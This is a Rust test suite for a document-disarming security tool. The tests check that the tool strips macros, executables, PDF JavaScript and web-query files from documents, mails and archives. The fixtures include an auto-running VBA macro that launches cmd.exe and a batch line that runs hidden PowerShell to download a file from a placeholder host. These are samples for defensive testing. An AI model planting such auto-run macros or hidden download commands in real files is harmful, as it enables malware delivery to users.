//! Disarmed files: free of what had to go, the same the second time, and byte for byte the old ones elsewhere.

use std::collections::BTreeSet;
use std::io::Cursor;
use std::path::Path;
use std::time::Duration;

use bytes::Bytes;
use sekisho::engine::{Engine, Worker};
use sekisho::limits::Limits;
use sekisho::model::{Family, Report};
use sekisho::rewrite::disarm::{Proven, Refusal};

use crate::bench::{Dice, engine, engine_within};
use crate::build::{self, Part, attachment, docx, program};
use crate::disarm_cost::given;
use crate::mutate::{fixtures, mutate, number};
use crate::support::Folder;

/// What the program does with a file where nothing is said.
pub(crate) fn disarm(
    engine: &Engine,
    worker: &mut Worker<'_>,
    name: &str,
    data: &[u8],
) -> (Report, Option<Result<Proven, Refusal>>) {
    let mut scan = |data: &Bytes| given::scan(worker, name, data);
    let report = scan(&Bytes::copy_from_slice(data));
    let made = given::disarmed(engine, &report, &mut scan);
    (report, made)
}

/// Members of a zip with their packed bytes.
fn packed(data: &[u8]) -> Option<Vec<(String, Vec<u8>, u32)>> {
    let mut archive = zip::ZipArchive::new(Cursor::new(data)).ok()?;
    let mut members = Vec::new();
    for at in 0..archive.len() {
        let (name, crc, from, len) = {
            let member = archive.by_index_raw(at).ok()?;
            let from = usize::try_from(member.data_start()?).unwrap();
            let len = usize::try_from(member.compressed_size()).unwrap();
            (member.name().ok()?.into_owned(), member.crc32(), from, len)
        };
        members.push((name, data.get(from..from + len)?.to_vec(), crc));
    }
    Some(members)
}

#[test]
fn what_is_disarmed_is_free_of_it_keeps_the_rest_and_stays_the_second_time() {
    let engine = engine();
    let mut worker = Worker::new(&engine);
    let (mut packages, mut kept) = (0, 0);
    let mut refused = Vec::new();
    for path in fixtures() {
        let data = std::fs::read(&path).unwrap();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let (before, made) = disarm(&engine, &mut worker, &name, &data);
        let family = before.artifacts[0].kind.family();
        let proven = match made {
            None => continue,
            Some(Ok(proven)) => proven,
            Some(Err(refusal)) => {
                let package = family == Family::Ooxml && data.starts_with(b"PK");
                if package {
                    refused.push(format!("{}: {refusal}", path.display()));
                }
                continue;
            }
        };
        let place = path.display();
        let removed = proven.made.deeds.iter().flat_map(|deed| &deed.removed);
        let removed: BTreeSet<&str> = removed.map(|one| one.finding.as_ref()).collect();
        let left = proven
            .report
            .findings
            .iter()
            .find(|found| removed.contains(found.id.as_ref()));
        assert!(left.is_none(), "{place}: {left:?}");
        assert!(proven.report.score <= before.score, "{place}");
        let (_, again) = disarm(&engine, &mut worker, &name, &proven.made.data);
        assert!(again.is_none(), "{place}: {again:?}");
        if family == Family::Ooxml && data.starts_with(b"PK") {
            packages += 1;
            let (old, new) = (packed(&data).unwrap(), packed(&proven.made.data).unwrap());
            for (name, bytes, crc) in &new {
                let same = |(known, _, sum): &&(String, Vec<u8>, u32)| known == name && sum == crc;
                if let Some((_, was, _)) = old.iter().find(same) {
                    assert_eq!(was, bytes, "{place}: {name} was packed again");
                    kept += 1;
                }
            }
        }
    }
    assert_eq!(refused, Vec::<String>::new());
    assert!(
        packages >= 8 && kept >= 20,
        "{packages} packages, {kept} parts"
    );
}

#[test]
fn damaged_packages_are_refused_or_no_worse() {
    let full = std::env::var_os("SEKISHO_TEST_FULL").is_some();
    let rounds = number("SEKISHO_FUZZ_ROUNDS").unwrap_or(if full { 60 } else { 4 });
    let limits = Limits {
        timeout: Duration::from_secs(5),
        max_unpacked: 64 << 20,
        max_artifacts: 2000,
        ..Limits::default()
    };
    let engine = engine_within(limits);
    let mut worker = Worker::new(&engine);
    let mut dice = Dice::new(11);
    let mut tried = 0;
    for path in fixtures() {
        let data = std::fs::read(&path).unwrap();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if disarm(&engine, &mut worker, &name, &data).1.is_none() {
            continue;
        }
        for _ in 0..rounds {
            let mut damaged = data.clone();
            mutate(&mut damaged, &data, &mut dice);
            let (before, made) = disarm(&engine, &mut worker, &name, &damaged);
            if let Some(Ok(proven)) = made {
                assert!(proven.report.score <= before.score, "{}", path.display());
                tried += 1;
            }
        }
    }
    assert!(tried > 10, "only {tried} damaged files were disarmed");
}

const TEXT: &str = "Content-Type: text/plain; charset=us-ascii";
const WORD: &str = "Content-Type: application/vnd.ms-word.document.macroEnabled.12; name=\"a.docm\"\nContent-Disposition: attachment; filename=\"a.docm\"\nContent-Transfer-Encoding: base64";
const PLAIN: &str = "Content-Type: application/octet-stream; name=\"plain.docx\"\nContent-Disposition: attachment; filename=\"plain.docx\"\nContent-Transfer-Encoding: base64";
const ZIP: &str = "Content-Type: application/zip; name=\"a.zip\"\nContent-Disposition: attachment; filename=\"a.zip\"\nContent-Transfer-Encoding: base64";

pub(crate) fn with_macro() -> Vec<u8> {
    let code = "Sub AutoOpen()\n    CreateObject(\"WScript.Shell\").Run \"cmd.exe /c echo done\", 0\nEnd Sub\n";
    build::docm("Report", &[("Module1", build::module("Module1", code))])
}

#[test]
fn a_mail_keeps_every_byte_but_those_of_the_part_that_changes() {
    let text = Part {
        headers: TEXT,
        body: b"Dear all,  \r\nsee below".to_vec(),
    };
    let message = build::mail(
        "x",
        &[
            text,
            attachment(WORD, &with_macro()),
            attachment(PLAIN, &docx("Plain")),
        ],
    );
    let engine = engine();
    let mut worker = Worker::new(&engine);
    let (_, made) = disarm(&engine, &mut worker, "mail.eml", &message);
    let proven = made.unwrap().unwrap();
    let new = String::from_utf8(proven.made.data.to_vec()).unwrap();
    let old = String::from_utf8(message).unwrap();
    let word = WORD.replace('\n', "\r\n");
    let (before, rest) = old.split_once(&word).unwrap();
    let after = &rest[rest.find("\r\n--=_sekisho").unwrap()..];
    assert!(new.starts_with(before) && new.ends_with(after), "{new}");
    let middle = &new[before.len()..new.len() - after.len()];
    let (notice, part) = middle.split_once("\r\n--=_sekisho\r\n").unwrap();
    assert!(part.starts_with(&word), "{middle}");
    assert!(
        notice.contains("filename=\"disarmed-0002.txt\""),
        "{notice}"
    );
    let said = &notice[notice.find("\r\n\r\n").unwrap()..];
    let said = said.replace("=\r\n", "").replace('\n', "");
    assert!(
        said.contains("word/vbaProject.bin") && said.contains("=E3=83=9E=E3=82=AF=E3=83=AD"),
        "{said}"
    );
}

#[test]
fn bad_members_of_archives_give_way_to_notices_and_documents_stay() {
    let inner = build::zip(&[
        ("報告/a.docm", &with_macro()),
        ("tool.exe", &program()),
        ("note.txt", b"a note\r\n"),
    ]);
    let engine = engine();
    let mut worker = Worker::new(&engine);
    let (_, made) = disarm(&engine, &mut worker, "a.zip", &inner);
    let proven = made.unwrap().unwrap();
    let members = packed(&proven.made.data).unwrap();
    let names: Vec<&str> = members.iter().map(|(name, ..)| name.as_str()).collect();
    assert_eq!(names, ["報告/a.docm", "tool.exe.txt", "note.txt"]);
    assert_eq!(members[2], packed(&inner).unwrap()[2]);
    // The same in a mail, and in an archive of another format.
    let mail = build::mail("x", &[attachment(ZIP, &inner)]);
    let (_, made) = disarm(&engine, &mut worker, "mail.eml", &mail);
    let proven = made.unwrap().unwrap();
    let names: Vec<&str> = proven
        .report
        .artifacts
        .iter()
        .map(|one| one.label())
        .collect();
    assert!(
        names.contains(&"tool.exe.txt") && names.contains(&"note.txt"),
        "{names:?}"
    );
    assert!(!names.contains(&"tool.exe"));
    let script = b"@echo off\r\npowershell -w hidden -c \"iwr http://example.invalid/a.bin -OutFile a.bin\"\r\n";
    for archive in crate::build_archives::all(script) {
        let (before, made) = disarm(&engine, &mut worker, "archive", &archive);
        let kind = before.artifacts[0].kind;
        // Locked, or cut off.
        let Some(proven) = made else {
            assert!(!before.complete, "{kind}: nothing found");
            continue;
        };
        let becomes_zip = [
            "bz2", "xz", "lzma", "zst", "lz4", "7z", "cpio", "ar", "szdd", "rar", "lzh",
        ];
        let proven = match proven {
            Ok(proven) => proven,
            Err(refusal) => {
                assert!(!becomes_zip.contains(&kind.as_str()), "{kind}: {refusal}");
                continue;
            }
        };
        assert_eq!(proven.report.artifacts[0].kind.as_str(), "zip", "{kind}");
        assert_eq!(
            proven.made.extension,
            Some("zip").filter(|_| kind.as_str() != "zip")
        );
    }
}

#[test]
fn the_command_writes_says_and_refuses() {
    let folder = Folder::new();
    let macros = with_macro();
    folder.file("a.docm", &macros);
    folder.file("plain.docx", docx("Plain"));
    folder.file("tool.exe", program());
    let dry = folder.run(&["disarm", "a.docm", "--dry-run"]);
    assert_eq!(dry.code, 0, "{dry:?}");
    assert!(
        dry.stdout
            .contains("- VBA macro (vba-macro): word/vbaProject.bin"),
        "{dry:?}"
    );
    assert!(
        dry.stdout.starts_with("a.docm: would be disarmed\n"),
        "{dry:?}"
    );
    let dry = folder.run(&["--lang", "ja", "disarm", "a.docm", "--dry-run"]);
    assert!(dry.stdout.starts_with("a.docm: 無害化できます"), "{dry:?}");
    let dry = folder.run(&["disarm", "plain.docx", "--dry-run"]);
    assert!(dry.stdout.contains("would be copied as it is"), "{dry:?}");
    let dry = folder.run(&["disarm", "a.docm", "--dry-run", "--format", "json"]);
    assert_eq!(dry.json()["dry_run"], true, "{dry:?}");
    let done = folder.run(&["disarm", "a.docm", "-o", "done.docm"]);
    assert!(done.stdout.starts_with("a.docm: disarmed\n"), "{done:?}");
    let run = folder.run(&[
        "disarm", "a.docm", "-o", "out.docm", "--rename", "--format", "json",
    ]);
    assert_eq!(run.code, 0, "{run:?}");
    let told = run.json();
    assert_eq!(told["status"], "disarmed");
    assert_eq!(told["output"], "out.docx");
    assert_eq!(told["after"]["level"], "clean");
    let scan = folder.run(&["scan", "out.docx", "--format", "json"]);
    assert_eq!(scan.json()["artifacts"][0]["kind"], "docx");
    let again = folder.run(&["disarm", "a.docm", "-o", "out.docm", "--rename"]);
    assert_eq!(
        again.code, 0,
        "a result takes the place of an old one: {again:?}"
    );
    let itself = folder.run(&["disarm", "a.docm", "-o", "./a.docm"]);
    assert_eq!(
        itself.code, 2,
        "the original is never written over: {itself:?}"
    );
    assert!(
        itself.stderr.contains("the original is not touched"),
        "{itself:?}"
    );
    let same = folder.run(&["--lang", "ja", "disarm", "plain.docx", "-o", "same.docx"]);
    assert_eq!(same.code, 0, "{same:?}");
    assert!(same.stdout.contains("取り除くものはありません"), "{same:?}");
    let copy = std::fs::read(folder.path("same.docx")).unwrap();
    assert_eq!(copy, docx("Plain"));
    let refused = folder.run(&["disarm", "tool.exe", "-o", "tool.out"]);
    assert_eq!(refused.code, 1, "{refused:?}");
    assert!(!Path::new(&folder.path("tool.out")).exists());
    let only = folder.run(&["disarm", "a.docm", "-o", "only.docm", "--only", "dde-link"]);
    assert_eq!(only.code, 0, "{only:?}");
    assert!(std::fs::read(folder.path("only.docm")).unwrap() == macros);
    let unknown = folder.run(&["disarm", "a.docm", "--dry-run", "--only", "macro"]);
    assert_eq!(unknown.code, 2, "{unknown:?}");
    assert!(
        unknown.stderr.contains("neither a group nor an id"),
        "{unknown:?}"
    );
}

/// Macros that an allowance is about stay in a document, until its last day; others of the document go.
#[test]
fn what_opens_without_a_password_is_written_without_encryption() {
    let engine = engine();
    let mut worker = Worker::new(&engine);
    let file = |name: &str| {
        let path = Path::new("testdata/findings/pdf-encrypted").join(name);
        std::fs::read(path).unwrap()
    };
    let (before, made) = disarm(&engine, &mut worker, "hit.pdf", &file("hit.pdf"));
    let said = |report: &Report, id: &str| report.findings.iter().any(|found| found.id == id);
    assert!(said(&before, "pdf-javascript") && said(&before, "pdf-encrypted"));
    let proven = made.unwrap().unwrap();
    let after = &proven.report;
    assert!(!said(after, "pdf-javascript") && !said(after, "pdf-encrypted"));
    assert!(memchr::memmem::find(&proven.made.data, b"/Encrypt").is_none());
    // The page says in clear what it said before.
    assert!(memchr::memmem::find(&proven.made.data, b"Tj").is_some());
    let locked = file("hit.locked.pdf");
    let (locked, made) = disarm(&engine, &mut worker, "hit.locked.pdf", &locked);
    assert!(!locked.complete && made.is_none());
}

#[test]
fn files_that_are_nothing_but_what_has_to_go_are_refused() {
    let engine = engine();
    let mut worker = Worker::new(&engine);
    for (id, file) in [
        ("web-query", "hit.iqy"),
        ("web-query", "hit.odc"),
        ("web-query", "hit-database.oqy"),
        ("search-connector", "hit-address.url"),
    ] {
        let path = Path::new("testdata/findings").join(id).join(file);
        let data = std::fs::read(&path).unwrap();
        let (_, made) = disarm(&engine, &mut worker, file, &data);
        assert_eq!(
            made.unwrap().unwrap_err(),
            Refusal::NoWay(id.into()),
            "{file}"
        );
        // In a mail, a notice stands in its place.
        let headers = format!(
            "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"{file}\"\nContent-Transfer-Encoding: base64\n"
        );
        let mail = build::mail("x", &[attachment(&headers, &data)]);
        let (_, made) = disarm(&engine, &mut worker, "mail.eml", &mail);
        let proven = made.unwrap().unwrap();
        assert!(
            proven.made.notices == 1 && proven.report.score < 30,
            "{file}"
        );
    }
}

#[test]
fn the_command_leaves_macros_that_are_allowed() {
    let folder = Folder::new();
    let macros = with_macro();
    folder.file("a.docm", &macros);
    let scanned = folder.run(&["scan", "a.docm", "--format", "json"]).json();
    let artifacts = scanned["artifacts"].as_array().unwrap().iter();
    let hash = artifacts.filter_map(|one| one["vba_hash"].as_str()).next();
    let allow = |what: &str, expires: &str| {
        format!("[[allow]]\n{what}reason = \"form 12\"\nexpires = {expires}\n")
    };
    let of_hash = format!("vba = \"{}\"\n", hash.unwrap());
    let of_other = format!("vba = \"{}\"\n", "0".repeat(64));
    let of_sender = format!("{of_hash}client = [\"10.0.0.0/8\"]\nfrom = [\"*@branch.example\"]\n");
    for (text, stays) in [
        (allow(&of_hash, "2999-12-31"), true),
        (allow(&of_hash, "2020-12-31"), false),
        (allow(&of_other, "2999-12-31"), false),
        // A file has no sender.
        (allow(&of_sender, "2999-12-31"), false),
    ] {
        folder.file("sekisho.toml", &text);
        let run = folder.run(&["-c", "sekisho.toml", "disarm", "a.docm", "-o", "out.docm"]);
        assert_eq!(run.code, 0, "{text} {run:?}");
        let made = std::fs::read(folder.path("out.docm")).unwrap();
        assert_eq!(made == macros, stays, "{text} {run:?}");
        assert_eq!(run.stdout.contains("form 12"), stays, "{run:?}");
    }
}

/// A package with other bytes in one of its parts.
fn with_part(package: &[u8], part: &str, new: &[u8]) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(Cursor::new(package)).unwrap();
    let mut parts = Vec::new();
    for at in 0..archive.len() {
        let mut member = archive.by_index(at).unwrap();
        let name = member.name().unwrap().into_owned();
        let mut data = Vec::new();
        std::io::copy(&mut member, &mut data).unwrap();
        parts.push((name, data));
    }
    let parts = parts.iter().map(|(name, data)| match name == part {
        true => (name.as_str(), new),
        false => (name.as_str(), data.as_slice()),
    });
    build::zip(&parts.collect::<Vec<_>>())
}

/// Macros of a signer stay where the signature holds for these very macros.
#[test]
fn the_command_leaves_macros_of_an_allowed_signer() {
    let Some(corpus) = crate::corpus::folder() else {
        return;
    };
    let vba = corpus.join("office/vba");
    let signed = std::fs::read(vba.join("xlsxwriter__macro04.xlsm")).unwrap();
    let folder = Folder::new();
    let signer = |name: &str, data: &[u8]| {
        folder.file(name, data);
        let scanned = folder.run(&["scan", name, "--format", "json"]).json();
        let artifacts = scanned["artifacts"].as_array().unwrap().clone();
        let of = |key: &str| {
            let all = artifacts.iter();
            all.filter_map(|one| one[key].as_str().map(str::to_owned))
                .next()
        };
        assert!(of("vba_hash").is_some(), "{name}");
        of("vba_signer")
    };
    let known = signer("signed.xlsm", &signed).unwrap();
    let text = folder.run(&["scan", "-v", "signed.xlsm"]).stdout;
    assert!(
        text.contains(&format!("macros signed by: signer:{known}")),
        "{text}"
    );
    // The signature of one project on another, and a damaged one.
    let other = packed_part(&with_macro(), "word/vbaProject.bin");
    let copied = with_part(&signed, "xl/vbaProject.bin", &other);
    assert_eq!(signer("copied.xlsm", &copied), None);
    let mut signature = packed_part(&signed, "xl/vbaProjectSignature.bin");
    signature[36 + 1300] ^= 1;
    let damaged = with_part(&signed, "xl/vbaProjectSignature.bin", &signature);
    assert_eq!(signer("damaged.xlsm", &damaged), None);
    let whole = with_part(&signed, "", b"");
    let allow = format!(
        "[[allow]]\nvba = \"signer:{known}\"\nreason = \"accounting\"\nexpires = 2999-12-31\n"
    );
    folder.file("sekisho.toml", &allow);
    for (name, data, stays) in [
        ("signed.xlsm", &signed, true),
        ("whole.xlsm", &whole, true),
        ("copied.xlsm", &copied, false),
        ("damaged.xlsm", &damaged, false),
    ] {
        folder.file(name, data);
        let run = folder.run(&["-c", "sekisho.toml", "disarm", name, "-o", "out.xlsm"]);
        assert_eq!(run.code, 0, "{name} {run:?}");
        let made = std::fs::read(folder.path("out.xlsm")).unwrap();
        assert_eq!(made == *data, stays, "{name}");
    }
    folder.file("sekisho.toml", allow.replace(&known, "12"));
    let wrong = folder.run(&["-c", "sekisho.toml", "config", "check"]);
    assert!(
        wrong.code != 0 && wrong.stderr.contains("is no SHA-256 in hex"),
        "{wrong:?}"
    );
}

/// The bytes of a part.
fn packed_part(package: &[u8], part: &str) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(Cursor::new(package)).unwrap();
    let mut member = archive.by_name(part).unwrap();
    let mut data = Vec::new();
    std::io::copy(&mut member, &mut data).unwrap();
    data
}
